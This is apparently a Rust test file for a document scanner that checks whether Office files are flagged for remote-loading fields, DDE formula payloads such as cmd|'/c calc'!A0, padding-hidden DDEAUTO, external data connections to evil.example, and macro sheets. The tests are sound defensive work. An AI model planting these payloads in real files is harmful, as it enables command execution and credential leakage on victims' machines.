//! Fields, formulas and connections.

use super::{assert_flagged, flags};
use crate::document::builder::Opc;
use crate::document::{code, verdict};

/// A Word document with a field.
fn with_field(instruction: &str) -> Vec<u8> {
    Opc::docx_with(&format!(
        "<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText>{instruction}</w:instrText></w:r>\
         <w:r><w:fldChar w:fldCharType=\"separate\"/></w:r><w:r><w:t>x</w:t></w:r>\
         <w:r><w:fldChar w:fldCharType=\"end\"/></w:r>"
    ))
    .bytes()
}

/// A workbook with a sheet.
fn with_sheet(content: &str) -> Vec<u8> {
    let xml = format!(
        "<worksheet xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\">{content}</worksheet>"
    );
    Opc::xlsx().part("xl/worksheets/sheet1.xml", xml).bytes()
}

#[test]
fn fields_that_load_from_another_computer_are_flagged() {
    for instruction in [
        " LINK Excel.Sheet.12 \"http://evil.example/x.xlsx\" \"Sheet1!R1C1\" \\a \\t ",
        " INCLUDEPICTURE \"\\\\\\\\evil.example\\\\s\\\\x.png\" \\d ",
        "includetext \\\\evil.example\\s\\x.docx",
        "DATABASE \\d \"\\\\\\\\evil.example\\\\s\\\\x.mdb\" \\c \"DSN=a\"",
        "RD \\\\evil.example\\s\\x.docx",
        "IMPORT &quot;file://evil.example/s/x.png&quot;",
        "INCLUDEPICTURE                                                  https://evil.example/p",
    ] {
        assert_flagged(
            &with_field(instruction),
            "docx",
            "remote_field",
            "EXTERNAL_REF",
        );
    }
}

#[test]
fn fields_that_stay_on_this_computer_are_not_flagged() {
    for instruction in [
        "INCLUDEPICTURE \"C:\\\\Pictures\\\\x.png\" \\d",
        "INCLUDEPICTURE \"media/x.png\" \\* MERGEFORMAT",
        "LINK Excel.Sheet.12 \"Book1.xlsx\" \"Sheet1!R1C1:R2C2\" \\a",
        "HYPERLINK \"http://example.com/\"",
        "PAGE",
    ] {
        let found = verdict(&with_field(instruction));
        assert_eq!(
            (code(&found), flags(&found).len()),
            ("docx", 0),
            "{instruction}"
        );
    }
}

#[test]
fn a_long_row_of_spaces_hides_no_dde_field() {
    let spaces = " ".repeat(20_000);
    assert_eq!(
        code(&verdict(&with_field(&format!(
            "{spaces}DDEAUTO{spaces}cmd"
        )))),
        "DDE"
    );
}

#[test]
fn formulas_that_start_a_conversation_are_refused() {
    for formula in [
        "cmd|'/c calc.exe'!A0",
        "1+cmd|' /C calc'!A0",
        "MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe'!''",
        "'cmd'|'/c calc'!A0",
        "rundll32|topic!item",
        "IF(A1,cmd|'/c calc'!_xlbgnm.A1,0)",
    ] {
        let cell = format!("<sheetData><row><c r=\"A1\"><f>{formula}</f></c></row></sheetData>");
        assert_eq!(code(&verdict(&with_sheet(&cell))), "DDE", "{formula}");
    }
    let name = with_sheet(
        "<definedNames><definedName name=\"a\">cmd|'/c calc'!A0</definedName></definedNames>",
    );
    assert_eq!(code(&verdict(&name)), "DDE");
    let total = with_sheet("<totalsRowFormula>cmd|'/c calc'!A0</totalsRowFormula>");
    assert_eq!(code(&verdict(&total)), "DDE");
    let split = with_sheet("<f>cmd|<!-- -->'/c calc'&#33;A0</f>");
    assert_eq!(code(&verdict(&split)), "DDE");
}

#[test]
fn formulas_with_bars_in_text_and_names_are_accepted() {
    for formula in [
        "\"a|b!c\"",
        "'x|y'!A1",
        "Table1[a|b]&amp;Sheet1!A1",
        "SUBSTITUTE(A1,\"|\",Sheet2!B1)",
        "Sheet1!A1",
        "SUM(Sheet1:Sheet3!A1)",
    ] {
        let found = verdict(&with_sheet(&format!("<f>{formula}</f>")));
        assert_eq!(code(&found), "xlsx", "{formula}");
    }
}

#[test]
fn connections_to_the_web_and_to_databases_are_flagged() {
    let connections = |content: &str| {
        let xml = format!(
            "<connections xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\" xmlns:x=\"urn:x\">{content}</connections>"
        );
        Opc::xlsx().part("xl/connections.xml", xml).bytes()
    };
    for content in [
        "<webPr url=\"http://evil.example/q.htm\"/>",
        "<dbPr connection=\"Provider=MSDASQL;Server=evil.example\"/>",
        "<textPr sourceFile=\"\\\\evil.example\\a.csv\"/>",
        "<connection><x:dataFeedPr connection=\"Data Source=http://evil.example/\"/></connection>",
        "<connection odcFile=\"\\\\evil.example\\s\\a.odc\"/>",
        "<connection sourceFile=\"http://evil.example/a.mdb\"/>",
    ] {
        assert_flagged(
            &connections(content),
            "xlsx",
            "external_connection",
            "EXTERNAL_REF",
        );
    }
    for content in [
        "<dbPr connection=\"Data Model Connection\"/>",
        "<textPr sourceFile=\"C:\\a.csv\"/>",
        "<connection odcFile=\"C:\\Users\\a\\My Data Sources\\a.odc\"/>",
    ] {
        assert!(
            flags(&verdict(&connections(content))).is_empty(),
            "{content}"
        );
    }
}

#[test]
fn a_macro_sheet_is_refused_whatever_its_type() {
    let sheet = "<xm:macrosheet xmlns:xm=\"http://schemas.microsoft.com/office/excel/2006/main\"/>";
    let package = Opc::xlsx().part("xl/worksheets/sheet1.xml", sheet);
    assert_eq!(code(&verdict(&package.bytes())), "MACRO_ENABLED");
}
